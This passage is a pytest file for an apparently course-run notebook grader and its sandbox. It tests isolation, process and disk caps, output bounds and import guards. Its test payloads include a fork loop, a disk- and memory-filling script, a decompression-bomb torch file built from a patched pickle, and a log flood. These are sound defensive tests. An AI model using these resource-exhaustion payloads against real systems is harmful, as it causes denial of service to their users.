    args = sandbox.Sandbox.create(tmp_path, package=Path("/tmp/some-checkout"), sandboxed=True).wrap(["true"])
    private_tmp = next(i for i, a in enumerate(args) if a == "--tmpfs" and args[i + 1] == "/tmp")
    binds = [i for i, a in enumerate(args) if a in ("--ro-bind", "--bind") and args[i + 1].startswith("/tmp/")]
    assert {args[i + 1] for i in binds} >= {venv, "/tmp/some-checkout", str(tmp_path)}
    assert all(i > private_tmp for i in binds), "a bind under /tmp placed before the private /tmp is hidden by it"


def test_same_answers_are_flagged_by_content_without_a_kernel(tmp_path):
    course = grade.load_course()
    solved = tg.solved(EX)
    commented = tg.solved(EX)
    for cell in commented.cells:
        if cell.get("id") == "bytes-per-param":
            cell.source = "# my own work\n\n" + cell.source.replace("\n", "  \n")
    for name, nb in (("alice", solved), ("bob", commented), ("carol", STUB), ("dan", STUB)):
        (tmp_path / name).mkdir()
        nbformat.write(nb, tmp_path / name / f"{EX}.ipynb")
    flags = grade.duplicates(sorted(tmp_path.rglob("*.ipynb")), course)
    assert set(flags) == {tmp_path / "alice" / f"{EX}.ipynb", tmp_path / "bob" / f"{EX}.ipynb"}, flags
    assert flags[tmp_path / "alice" / f"{EX}.ipynb"].startswith("SAME ANSWERS") and "bob" in \
        flags[tmp_path / "alice" / f"{EX}.ipynb"]


@needs_sandbox
def test_the_sandbox_caps_processes_and_has_no_network(tmp_path):
    """Without a kernel: a fork loop in a sandbox is killed at the cap; a server outside it cannot be reached."""
    box = sandbox.Sandbox.create(tmp_path, sandboxed=True)
    fork = ("import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n"
            "time.sleep(30)\n")
    start = time.monotonic()
    proc = subprocess.Popen(box.wrap([sys.executable, "-c", fork]), cwd=tmp_path, env=box.env(),
                            start_new_session=True)
    cap = sandbox.ProcessCap(proc, sandboxed=True, limit=20)
    try:
        proc.wait(timeout=30)
    finally:
        proc.kill()        # bwrap: its pid namespace goes with it
    assert cap.tripped and time.monotonic() - start < 20, "killed at the cap, not when it ended by itself"
    server = socketserver.TCPServer(("127.0.0.1", 0), socketserver.StreamRequestHandler)
    try:
        connect = (f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {server.server_address[1]}), "
                   f"timeout=2)\n    print('reached')\nexcept OSError as e:\n    print('refused', e)\n")
        out = subprocess.run(box.wrap([sys.executable, "-c", connect]), cwd=tmp_path, env=box.env(),
                             capture_output=True, text=True, timeout=60).stdout
    finally:
        server.server_close()
    assert out.startswith("refused"), out


# ---- bounds and records, without a kernel ----------------------------------------------------------------------

def inflating_output(path: Path, nbytes: int) -> None:
    """A torch.save file of {"out": a float32 tensor}, whose storage of `nbytes` is deflated: a few MB on disk."""
    import io
    import struct
    import zipfile

    import torch
    small = io.BytesIO()
    torch.save({"out": torch.zeros(5)}, small)
    with zipfile.ZipFile(io.BytesIO(small.getvalue())) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("data.pkl"):     # the storage's element count, 5 -> nbytes / 4
                data = data.replace(b"cpuq\x06K\x05t", b"cpuq\x06J" + struct.pack("<i", nbytes // 4) + b"t")
            if not info.filename.endswith("data/0"):
                out.writestr(info.filename, data)
                continue
            zeros = bytes(16 << 20)
            with out.open(info.filename, "w", force_zip64=True) as f:
                for _ in range(nbytes // len(zeros)):
                    f.write(zeros)


READ_AND_MEASURE = """import resource, sys
from par.course.grading import rank_io
try:
    rank_io.read_outputs(sys.argv[1], 1, [None])
    print("read")
except rank_io.OutputRefused as e:
    print("refused:", e)
print("peak MB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10)
"""


def test_an_output_that_inflates_is_refused_and_the_grader_stays_small(tmp_path):
    """2 MB on disk that torch.load would inflate to 1.25 GiB (a deflated record): refused in one line before it
    is loaded; the reading process stays under 1 GB (it peaks at 1.5 GB when the file is loaded)."""
    inflating_output(tmp_path / "out-0.pt", 5 << 28)
    assert (tmp_path / "out-0.pt").stat().st_size < 8 << 20
    run = subprocess.run([sys.executable, "-c", READ_AND_MEASURE, str(tmp_path)], capture_output=True, text=True,
                         timeout=120, cwd=ROOT)
    said, peak = run.stdout.splitlines()[0], int(run.stdout.split("peak MB")[1])
    assert said.startswith("refused: rank 0's output file holds compressed records"), run.stdout + run.stderr
    assert "the grader does not read it" in said and peak < 1024, (said, peak)


def test_what_torch_save_writes_is_read_and_what_exceeds_the_caps_is_not(tmp_path):
    import torch

    from par.course.grading import rank_io
    torch.save({"out": torch.arange(10.0), "n": [1, 2]}, tmp_path / "out-0.pt")
    assert rank_io.bounded(tmp_path / "out-0.pt") == ""
    got = rank_io.read_outputs(tmp_path, 1, [torch.zeros(0, 3, dtype=torch.int64)])[0]
    assert torch.equal(got["out"], torch.arange(10.0)) and got["ledger"].shape == (0, 3)
    torch.save({"many": list(range(400_000))}, tmp_path / "out-0.pt")         # a pickle of ~2 MB
    assert "pickle" in rank_io.bounded(tmp_path / "out-0.pt")
    with pytest.raises(rank_io.OutputRefused, match="rank 0's output file holds a pickle"):
        rank_io.read_outputs(tmp_path, 1)
    torch.save({"ledger": torch.ones(2, 3, dtype=torch.int64)}, tmp_path / "out-0.pt")     # a forged ledger
    assert rank_io.read_outputs(tmp_path, 1, [None])[0]["ledger"] is None, "the grader's records win"


def test_the_launchers_output_costs_the_grader_two_lines(tmp_path):
    """A rank that floods the launcher's output (a 64 MB line without an end, then lines) is kept to the last
    marked line and the last other line, each bounded."""
    from par.course.grading import proxies
    flood = (f"import sys\nw = sys.stdout.buffer.write\nw(b'x' * (64 << 20))\nw(b'\\n')\n"
             f"w(b'{proxies.LAUNCH_MARK}' + b'{{\"result\": 1}}\\n')\nw(b'the end\\n' * 1000)\n")
    proc = subprocess.Popen([sys.executable, "-c", flood], stdout=subprocess.PIPE)
    reader = proxies._BoundedOutput(proc.stdout)
    proc.wait(timeout=60)
    reader.join()
    assert reader.marked == '{"result": 1}' and reader.last == "the end"


def test_the_ledger_keeps_every_record_sent_and_no_more_connections(tmp_path):
    import socket

    from par.course.grading import ledger
    book = ledger.Ledger(tmp_path, 3)

    def rank(r, records, hello=True, may_be_dropped=False):
        s = socket.socket(socket.AF_UNIX)
        s.connect(str(ledger.path(tmp_path)))
        try:
            if hello:
                s.sendall(ledger.HELLO.pack(r))
            for rec in records:
                s.sendall(ledger.RECORD.pack(*rec))
        except (BrokenPipeError, ConnectionResetError):
            if not may_be_dropped:
                raise
        return s
    a = rank(0, [(1, 2, 3), (4, 5, 6)])
    b = rank(1, [(7, 8, 9)])
    a.sendall(ledger.RECORD.pack(10, 11, 12))          # later: kept; what was sent cannot be taken back
    # a second connection naming rank 1 spoils rank 1; the ledger may hang up on it before its record is sent
    c = rank(1, [(0, 0, 0)], may_be_dropped=True)
    time.sleep(0.3)
    with pytest.raises(OSError):                       # three connections made: the ledger takes no more
        rank(2, [(1, 1, 1)])
    for s in (a, b, c):
        s.close()
    got = book.close()
    assert got[0].tolist() == [[1, 2, 3], [4, 5, 6], [10, 11, 12]]
    assert got[1] is None and got[2] is None


def test_the_ledger_refuses_a_partial_or_endless_record(tmp_path, monkeypatch):
    import socket

    from par.course.grading import ledger
    monkeypatch.setattr(ledger, "MAX_RECORDS", 10)
    book = ledger.Ledger(tmp_path, 2)
    partial, endless = (socket.socket(socket.AF_UNIX) for _ in range(2))
    for r, s in enumerate((partial, endless)):
        s.connect(str(ledger.path(tmp_path)))
        s.sendall(ledger.HELLO.pack(r))
    partial.sendall(ledger.RECORD.pack(1, 2, 3)[:10])
    try:
        endless.sendall(ledger.RECORD.pack(1, 1, 1) * 11)
    except OSError:
        pass
    time.sleep(0.3)
    partial.close()
    endless.close()
    assert book.close() == [None, None]


def test_the_graders_modules_cannot_be_imported_inside_the_guard():
    import importlib

    import par.course.grading.exercise_memory as before
    from par.course.grading import guards
    with guards.grader_hidden():
        for name in ("par.course.grading.exercise_memory", "par.course.grading", "par.course.grading.rank_io"):
            with pytest.raises(ImportError, match="the grader's own code"):
                importlib.import_module(name)
        import par.course
        assert not hasattr(par.course, "grading")
        assert "par.course.grading.exercise_memory" not in sys.modules
    assert importlib.import_module("par.course.grading.exercise_memory") is before


def test_the_ranks_lose_the_graders_expected_values_and_keep_the_runner():
    from par.course.grading import stubs
    job = "par.course.grading.exercise_memory"
    names = {f"{m}.{n}" for m, n in stubs.on_the_ranks(job)}
    for gone in ("make_inputs", "verify", "expected", "formula", "draw_config"):
        assert f"{job}.{gone}" in names
    assert {"par.course.grading.rank_io.read_outputs", "par.course.grading.grade.grade_one",
            "par.course.grading.ledger.Ledger", "par.course.grading.exercise_ddp.make_inputs"} <= names
    for kept in (f"{job}.run_rank", f"{job}.held", f"{job}.Args", "par.course.grading.rank_io.main",
                 "par.course.grading.rank_io.guarded", "par.course.grading.guards.grader_hidden",
                 "par.course.grading.ledger.record", "par.course.grading.sandbox.limit",
                 "par.course.grading.launcher.main"):
        assert kept not in names, kept


FILLS = """import os, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for path in ("/tmp/filler", "filler"):
    try:
        with open(path, "wb") as f:
            while True:
                f.write(bytes(1 << 20))
    except OSError as e:
        print(path, os.path.getsize(path) >> 20, e.errno)
    os.unlink(path)
"""


@needs_sandbox
def test_a_submission_cannot_fill_the_memory_or_the_disk(tmp_path):
    """Its private /tmp (memory) stops at TMP_BYTES, a file in its work folder (the host's disk) at FILE_BYTES."""
    import errno
    box = sandbox.Sandbox.create(tmp_path, sandboxed=True)
    out = subprocess.run(box.wrap([sys.executable, "-c", FILLS]), cwd=tmp_path, env=box.env(), capture_output=True,
                         text=True, timeout=120).stdout.split()
    assert out[:3] == ["/tmp/filler", str(sandbox.TMP_BYTES >> 20), str(errno.ENOSPC)], out
    assert out[3:] == ["filler", str(sandbox.FILE_BYTES >> 20), str(errno.EFBIG)], out
